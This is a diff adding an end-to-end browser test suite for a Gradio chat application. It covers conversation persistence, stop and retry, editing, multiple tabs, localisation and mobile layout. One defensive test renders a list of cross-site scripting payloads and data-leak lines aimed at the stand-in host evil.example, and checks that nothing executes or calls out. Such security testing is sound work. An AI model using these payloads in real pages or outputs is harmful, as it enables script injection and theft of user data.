@@ -1,0 +1,374 @@
+"""The chat in a real browser, behind the real gate and its content security policy, without login."""
+
+import re
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+import uvicorn
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from gradio_app.aws import Clients
+from gradio_app.chat.address import address_of
+from gradio_app.chat.conversation import Answer, Conversation, new_id
+from gradio_app.chat.conversations import Conversations
+from gradio_app.identity import LOCAL_USER
+from gradio_app.server import create_app
+from gradio_app.settings import Settings
+from tests.gradio_app.chat.conftest import DEADLINE, MODEL_ID, bedrock_client
+from tests.gradio_app.chat.fake_bedrock import FakeBedrock
+
+pytestmark = pytest.mark.slow
+OTHER_MODEL = "us.amazon.nova-lite-v1:0"
+
+ATTACKS = [
+    "<script>document.title = 'pwned'</script>",
+    "<img src=x onerror=\"document.title = 'pwned'\">",
+    "<img src=x onerror=document.title='pwned'//",
+    "<svg onload=\"document.title = 'pwned'\"></svg>",
+    "<svg><script>document.title = 'pwned'</script></svg>",
+    "<svg><animate onbegin=\"document.title = 'pwned'\" attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='pwned'\">",
+    "<iframe srcdoc=\"<script>parent.document.title = 'pwned'</script>\"></iframe>",
+    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
+    "<object data=\"javascript:document.title='pwned'\"></object>",
+    "<embed src=\"data:text/html,<script>parent.document.title='pwned'</script>\">",
+    "<details open ontoggle=\"document.title = 'pwned'\">x</details>",
+    "<body onload=\"document.title = 'pwned'\">",
+    "<input autofocus onfocus=\"document.title = 'pwned'\">",
+    '<form action="http://evil.example/"><button id=bait>bait</button></form>',
+    "<a href=\"javascript:document.title='pwned'\">bait</a>",
+    "[bait](javascript:document.title='pwned')",
+    "[bait](JaVaScRiPt&#58;document.title='pwned')",
+    "[bait](data:text/html,<script>opener.document.title='pwned'</script>)",
+    "![leak](http://evil.example/?secret=1)",
+    '<img src="http://evil.example/?secret=2">',
+    '<img srcset="http://evil.example/?secret=3 2x" src=x>',
+    '<video src="http://evil.example/4" poster="http://evil.example/5" autoplay></video>',
+    '<link rel=stylesheet href="http://evil.example/6">',
+    "<style>@import url(http://evil.example/7); body { background: url(http://evil.example/8) }</style>",
+    '<div style="background: url(http://evil.example/9)">x</div>',
+    '<meta http-equiv=refresh content="0;url=http://evil.example/10">',
+    '<base href="http://evil.example/">',
+    "$$\\href{javascript:document.title='pwned'}{bait}$$",
+    "$$\\includegraphics{http://evil.example/11}$$",
+    "```mermaid\ngraph TD\nA[\"<img src=x onerror=document.title='pwned'>\"]\n```",
+    "```html\n<img src=x onerror=document.title='pwned'>\n```",
+]
+
+
+@pytest.fixture
+def site(dynamodb: Any, table: str, fake: FakeBedrock) -> Iterator[str]:
+    """The address of the whole application, signed in as the one user of this machine."""
+    settings = Settings(
+        pool_id="",
+        app_client_id="",
+        app_client_secret="",
+        table_name=table,
+        region="us-east-1",
+        model_ids=(MODEL_ID, OTHER_MODEL),
+        public_scheme="http",
+        bind_host="127.0.0.1",
+        authentication=False,
+        max_output_tokens=100,
+    )
+    client = bedrock_client("bedrock-runtime", fake.endpoint_url)
+    clients = Clients(cognito_idp=None, dynamodb=dynamodb, bedrock_runtime=client, bedrock=client)
+    with serve(create_app(settings, clients).gate) as address:
+        yield address
+
+
+class serve:  # noqa: N801 (used like a function)
+    """Runs an ASGI application on a free port of the loopback."""
+
+    def __init__(self, app: Any) -> None:
+        self._server = uvicorn.Server(
+            uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", timeout_graceful_shutdown=1)
+        )
+        self._thread = threading.Thread(target=self._server.run, daemon=True)
+
+    def __enter__(self) -> str:
+        self._thread.start()
+        while not self._server.started:
+            assert self._thread.is_alive()
+            self._thread.join(0.02)
+        return f"http://127.0.0.1:{self._server.servers[0].sockets[0].getsockname()[1]}"
+
+    def __exit__(self, *_: object) -> None:
+        self._server.should_exit = True
+        self._thread.join(DEADLINE)
+
+
+@pytest.fixture
+def context(browser: Browser, site: str) -> Iterator[BrowserContext]:
+    context = browser.new_context(base_url=site, locale="en-US", viewport={"width": 1280, "height": 860})
+    context.set_default_timeout(DEADLINE * 1000)
+    yield context
+    context.close()
+
+
+@pytest.fixture
+def page(context: BrowserContext) -> Page:
+    return opened(context, "/")
+
+
+def opened(context: BrowserContext, address: str) -> Page:
+    """A new tab at an address, ready to write in."""
+    page = context.new_page()
+    page.goto(address)
+    expect(page.locator("#box textarea")).to_be_editable(timeout=DEADLINE * 1000)
+    expect(page.locator("#chat .placeholder, #chat .message").first).to_be_visible(timeout=DEADLINE * 1000)
+    return page
+
+
+def send(page: Page, text: str) -> None:
+    page.locator("#box textarea").fill(text)
+    page.locator("#box textarea").press("Enter")
+
+
+def ask(page: Page, text: str, answer: str) -> None:
+    """Send a message and wait until its answer stands there and another may be sent."""
+    send(page, text)
+    expect(answers(page).last).to_contain_text(answer, timeout=DEADLINE * 1000)
+    settled(page)
+
+
+def settled(page: Page) -> None:
+    expect(page.locator("#box .submit-button")).to_be_visible(timeout=DEADLINE * 1000)
+    expect(page.locator("#usage")).to_contain_text("tokens", timeout=DEADLINE * 1000)
+
+
+def answers(page: Page) -> Any:
+    return page.locator("#chat .bot-row")
+
+
+def questions(page: Page) -> Any:
+    return page.locator("#chat .user-row")
+
+
+def links(page: Page) -> Any:
+    return page.locator("#conversations > a:visible")
+
+
+def test_a_conversation_survives_a_reload_and_is_found_in_the_list(page: Page) -> None:
+    ask(page, "answer: the first of **two**", "the first of two")
+    expect(answers(page).locator("strong")).to_have_text("two")
+    ask(page, "answer: the second", "the second")
+    expect(page.locator("#usage")).to_have_text(re.compile(r"11 with context.* answer 2 .* 22 in, 6 out"))
+
+    page.reload()
+    expect(answers(page)).to_have_count(2)
+    expect(page.locator("#box textarea")).to_have_value("")
+    page.locator("#new").click()
+    expect(page.locator("#chat .placeholder")).to_be_visible()
+    expect(answers(page)).to_have_count(0)
+    links(page).first.click()
+    expect(answers(page).last).to_have_text("the second")
+    assert "?c=" in page.url
+
+
+def test_stop_keeps_what_had_arrived_and_retry_asks_again(page: Page, fake: FakeBedrock) -> None:
+    send(page, "hold")
+    expect(answers(page).last).to_contain_text("first words")
+    page.locator("#box .stop-button").click()
+    expect(answers(page).last).to_contain_text("Stopped.")
+    expect(answers(page).last).to_contain_text("first words")
+    settled(page)
+
+    fake.go_on.set()
+    page.get_by_role("button", name="Retry").click()
+    expect(answers(page).last).to_contain_text("and the rest")
+    settled(page)
+    expect(questions(page)).to_have_count(1)
+
+
+def test_a_closed_tab_ends_the_stream_and_what_had_arrived_is_there_again(
+    context: BrowserContext, fake: FakeBedrock
+) -> None:
+    page = opened(context, "/")
+    send(page, "endless")
+    expect(answers(page).last).to_contain_text("more more")
+    address = page.url
+    page.close()
+    assert fake.hang_up.wait(DEADLINE)
+    expect(answers(opened(context, address)).last).to_contain_text("more more")
+
+
+def test_errors_are_told_in_the_chat_with_what_had_arrived(page: Page) -> None:
+    send(page, "cut")
+    expect(answers(page).last).to_contain_text("The connection broke")
+    expect(answers(page).last).to_contain_text("half an answer")
+    settled(page)
+    ask(page, "throttle", "too many requests")
+    expect(page.get_by_role("button", name="Retry")).to_be_visible()
+    ask(page, "answer: fine again", "fine again")
+
+
+def test_edit_asks_anew_and_drops_what_followed(page: Page) -> None:
+    ask(page, "answer: one", "one")
+    ask(page, "answer: two", "two")
+    page.get_by_label("Edit").first.click()
+    page.locator("#chat textarea").fill("answer: changed")
+    page.get_by_label("Submit").first.click()
+    expect(answers(page).last).to_have_text("changed")
+    settled(page)
+    expect(answers(page)).to_have_count(1)
+    page.reload()
+    expect(questions(page)).to_have_text(["answer: changed"])
+
+
+def test_undo_takes_the_last_question_back(page: Page) -> None:
+    ask(page, "answer: one", "one")
+    ask(page, "answer: two", "two")
+    page.get_by_role("button", name="Undo").click()
+    expect(page.locator("#box textarea")).to_have_value("answer: two")
+    expect(answers(page)).to_have_count(1)
+    page.reload()
+    expect(answers(page)).to_have_count(1)
+
+
+def test_two_tabs_do_not_overwrite_each_other(context: BrowserContext) -> None:
+    one = opened(context, "/")
+    ask(one, "answer: from one", "from one")
+    other = opened(context, one.url)
+    ask(other, "answer: from the other", "from the other")
+
+    send(one, "answer: one again")
+    expect(one.locator(".toast-wrap")).to_contain_text("changed in another tab")
+    expect(answers(one)).to_have_text(["from one", "from the other"])
+    expect(one.locator("#box textarea")).to_have_value("answer: one again")
+    one.locator("#box textarea").press("Enter")
+    expect(answers(one)).to_have_text(["from one", "from the other", "one again"])
+
+
+def test_a_conversation_is_renamed_and_deleted(page: Page) -> None:
+    ask(page, "answer: one", "one")
+    page.locator("#this-conversation button.label-wrap").click()
+    page.locator("#title textarea, #title input").first.fill("<b>My</b> title")
+    page.locator("#rename").click()
+    expect(links(page)).to_have_text(["<b>My</b> title"])
+    page.locator("#delete").click()
+    page.locator("#delete-really").click()
+    expect(answers(page)).to_have_count(0)
+    expect(links(page)).to_have_count(0)
+    ask(page, "answer: begins anew", "begins anew")
+    page.reload()
+    expect(answers(page)).to_have_text(["begins anew"])
+
+
+def test_an_address_of_nobodys_conversation_says_so(context: BrowserContext) -> None:
+    page = opened(context, f"/?c={'0' * 32}")
+    expect(page.locator("#chat .placeholder")).to_contain_text("does not exist")
+
+
+def test_an_example_is_asked_with_one_click(page: Page, fake: FakeBedrock) -> None:
+    page.locator("#chat .example").first.click()
+    expect(answers(page).last).to_contain_text("load balancer")
+    settled(page)
+    assert "load balancer" in fake.question()
+
+
+def test_the_settings_reach_the_model(page: Page, fake: FakeBedrock) -> None:
+    page.locator("#settings button.label-wrap").click()
+    page.locator("#model input").click()
+    page.get_by_role("option", name="nova-lite-v1").click()
+    page.locator("#max-tokens input[type=number]").fill("50")
+    page.locator("#max-tokens input[type=number]").press("Tab")
+    ask(page, "answer: hello", "hello")
+    assert fake.requests[-1]["model_id"] == OTHER_MODEL
+    assert fake.requests[-1]["inferenceConfig"]["maxTokens"] == 50
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [(4, "us.somebody-elses-model-v1:0"), (5, 7), (6, 101), (6, 0), (2, "../" + "0" * 29)],
+)
+def test_values_that_the_page_never_offers_are_refused(
+    page: Page, fake: FakeBedrock, field: int, value: object
+) -> None:
+    def tamper(route: Any) -> None:
+        body = route.request.post_data_json
+        if len(body["data"]) == 7:
+            body["data"][field] = value
+        route.continue_(post_data=body)
+
+    page.route("**/queue/join*", tamper)
+    send(page, "answer: hello")
+    # Gradio refuses what its own components could not have sent; the rest is refused by the page.
+    refusal = re.compile("not in the list|greater than|less than|does not exist")
+    expect(page.locator(".toast-wrap")).to_contain_text(refusal, timeout=DEADLINE * 1000)
+    assert fake.requests == []
+
+
+def test_spanish(browser: Browser, site: str) -> None:
+    context = browser.new_context(base_url=site, locale="es-MX")
+    page = opened(context, "/")
+    expect(page.locator("#chat .placeholder")).to_contain_text("¿En qué puedo ayudarte?")
+    expect(page.locator("#new")).to_have_text(re.compile("Nueva conversación"))
+    expect(page.locator("#box textarea")).to_have_attribute("placeholder", "Escribe un mensaje…")
+    send(page, "throttle")
+    expect(answers(page).last).to_contain_text("demasiadas peticiones")
+    context.close()
+
+
+def test_on_a_phone_the_sidebar_starts_closed_and_opens(browser: Browser, site: str) -> None:
+    context = browser.new_context(base_url=site, locale="en-US", viewport={"width": 390, "height": 780})
+    page = opened(context, "/")
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    expect(page.locator("#new")).to_be_hidden()
+    ask(page, "answer: readable", "readable")
+    page.get_by_label("Toggle Sidebar").click()
+    expect(page.locator("#new")).to_be_in_viewport()
+    page.get_by_label("Toggle Sidebar").click()
+    expect(page.locator("#box textarea")).to_be_in_viewport()
+    context.close()
+
+
+def test_nothing_that_the_model_writes_runs_or_calls_out(
+    context: BrowserContext, site: str, store: Conversations, fake: FakeBedrock
+) -> None:
+    outside: list[str] = []
+
+    def stay(route: Any) -> None:
+        outside.append(route.request.url)
+        route.abort()
+
+    context.route(lambda url: not url.startswith((site, "data:", "blob:")), stay)
+    conversation_id = new_id()
+    for attack in ATTACKS:
+        seen = store.read(LOCAL_USER.user_id, conversation_id) or Conversation(conversation_id)
+        number = store.ask(LOCAL_USER.user_id, seen, attack)
+        store.answer(LOCAL_USER.user_id, conversation_id, number, Answer(f"{attack} end"))
+    page = opened(context, address_of(conversation_id))
+    expect(answers(page)).to_have_count(len(ATTACKS))
+    # Once more as it comes in pieces, each of them rendered by itself.
+    fake.word_seconds = 0.02
+    ask(page, "answer: " + "\n\n".join(ATTACKS[3:6]) + "\n\nthe end", "the end")
+    baits = page.locator("#chat a:visible", has_text="bait")
+    for number in range(baits.count()):
+        baits.nth(number).evaluate("bait => bait.click()")
+
+    for tab in context.pages:
+        assert "pwned" not in tab.title()
+    assert page.title() == "Asistente"
+    assert outside == []
+    assert page.locator("#chat").locator("script, iframe, object, embed, base, meta, link, form").count() == 0
+    assert (
+        page.evaluate(
+            """[...document.querySelectorAll("#chat *")].flatMap(element => [...element.attributes])
+           .filter(({name, value}) => name.startsWith("on") || /^\\s*javascript:/i.test(value)).length"""
+        )
+        == 0
+    )
+
+
+def test_the_page_obeys_its_own_policy(context: BrowserContext) -> None:
+    complaints: list[str] = []
+    context.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
+    context.on("weberror", lambda error: complaints.append(str(error.error)))
+    page = opened(context, "/")
+    ask(page, "answer: a `word`, $$x^2$$ and\n\n```python\nprint(1)\n```", "print(1)")
+    page.reload()
+    expect(answers(page)).to_have_count(1)
+    assert complaints == []
